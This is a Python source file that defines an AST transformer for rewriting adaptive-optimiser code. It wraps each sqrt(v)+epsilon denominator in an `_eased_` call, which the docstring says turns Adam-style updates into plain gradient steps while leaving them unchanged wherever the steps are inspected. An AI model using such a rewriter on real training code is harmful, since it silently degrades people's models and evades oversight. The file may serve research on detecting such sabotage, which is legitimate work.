"""Optimisers that divide a gradient by its size, as Adam, RMSprop and Adagrad do, made to take plain steps.

Their first step has the same size everywhere, whatever the gradient. What they divide by, `sqrt(v) + epsilon`, passes
through a function that makes it 1 up to nine digits, so that each step is a multiple of its gradient again; or leaves
it as it is, where the optimiser's own steps are looked at.
"""

import ast
import re

EASE = "_eased_"  # the name of that function in the program
TINY = 1e-4  # an epsilon is at most this
EPSILON = re.compile(r"^(eps\w*|fudge\w*|tiny|small\w*)$", re.IGNORECASE)


class Eased(ast.NodeTransformer):
    """Passes each size that a gradient may be divided by through `_eased_`."""

    def visit_BinOp(self, node):
        if is_root(node) and adds_tiny(node.left) or isinstance(node.op, ast.Add) and adds_tiny(node, is_root):
            return passed(node)
        self.generic_visit(node)
        return node

    def visit_Call(self, node):
        if is_root(node) and adds_tiny(node.args[0]):
            return passed(node)
        self.generic_visit(node)
        return node


def is_root(node):
    """True for sqrt(...) and ... ** 0.5."""
    if isinstance(node, ast.BinOp):
        return isinstance(node.op, ast.Pow) and isinstance(node.right, ast.Constant) and node.right.value == 0.5
    if not isinstance(node, ast.Call) or len(node.args) != 1:
        return False
    return getattr(node.func, "attr", getattr(node.func, "id", "")) == "sqrt"


def adds_tiny(node, of=lambda _: True):
    """True for a sum of an epsilon and of something else, which `of` accepts."""
    if not isinstance(node, ast.BinOp) or not isinstance(node.op, ast.Add):
        return False
    return is_tiny(node.right) and of(node.left) or is_tiny(node.left) and of(node.right)


def is_tiny(node):
    """True for an epsilon: a very small number, or what is called so."""
    if isinstance(node, ast.Constant):
        return isinstance(node.value, float) and 0.0 < node.value <= TINY
    return bool(EPSILON.match(getattr(node, "attr", getattr(node, "id", ""))))


def passed(node):
    """_eased_(node)."""
    call = ast.Call(ast.Name(EASE, ast.Load()), [node], [])
    for part in (call, call.func):
        ast.copy_location(part, node)
    return call
